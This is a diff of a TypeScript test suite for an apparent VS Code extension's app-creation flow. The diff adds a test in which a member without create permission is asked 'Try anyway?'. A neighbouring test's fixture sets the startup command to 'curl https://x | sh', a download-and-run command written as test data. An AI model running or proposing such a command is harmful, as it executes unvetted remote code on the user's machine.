@@ -12,7 +12,7 @@ import { writeTree } from "../../../support/fileTrees";
 import { MemoryState } from "../../../support/memoryState";
 import { realFiles } from "../../../support/realFiles";
 import { inRepository } from "../../../support/repository";
-import { someAccount, someAccounts, someApp, someTeam } from "../../../support/someApp";
+import { someAccount, someAccounts, someApp, someMember, someTeam } from "../../../support/someApp";
 import { temporaryFolder } from "../../../support/temporaryFolder";
 import { answerPicks, commands, tasks, window, workspace } from "../../../support/vscodeParts";
 
@@ -35,8 +35,9 @@ describe("the question before something is created", () => {
     };
   });
 
-  function options(): CreateFlowOptions {
-    const account = someAccount({ apps: [someApp({ teamId: "team" })], teams: [someTeam({ owner: "me" })] });
+  function options(
+    account = someAccount({ apps: [someApp({ teamId: "team" })], teams: [someTeam({ owner: "me" })] }),
+  ): CreateFlowOptions {
     return {
       ...{ accounts: someAccounts(account), state: new MemoryState(), underWay: new Set() },
       extensionUri: vscode.Uri.file(inRepository(".")),
@@ -60,6 +61,25 @@ describe("the question before something is created", () => {
     writeFileSync(path.join(folder, "main.py"), "print(1)\n");
     writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
   };
+
+  it("is whether to try, in a team whose flags rule it out; nobody asks for our own code", async () => {
+    project({ name: "Shop", team: "team" });
+    const own = options(someMember({ canCreateApplication: false }));
+    const settings = { mainFile: "main.py" };
+    const quiet = runCreateFlow(withConsent(argument({ settings })), own);
+    await assert.rejects(quiet, { kind: "forbidden" });
+    assert.equal(asked.asked.length, 0);
+    await assert.rejects(runCreateFlow(argument({ settings }), own), { name: "CancelledError" });
+    assert.deepEqual(asked.asked[0], {
+      text: "Your permissions may not include this. Try anyway?",
+      lines: ["According to your permissions in Crew, you can't create apps.", "The service decides."],
+      buttons: ["Try Anyway"],
+    });
+    asked.answer = "Try Anyway";
+    await assert.rejects(runCreateFlow(argument({ settings }), own), { name: "CancelledError" });
+    assert.equal(asked.asked.at(-1)?.text, "Create Shop?");
+    assert.equal(sent, 0);
+  });
 
   it("names what hosted-app.json adds: the team, the start and that the web reaches it", async () => {
     project({ name: "Shop", team: "team", startupCommand: "curl https://x | sh\n", exposedViaWeb: true });
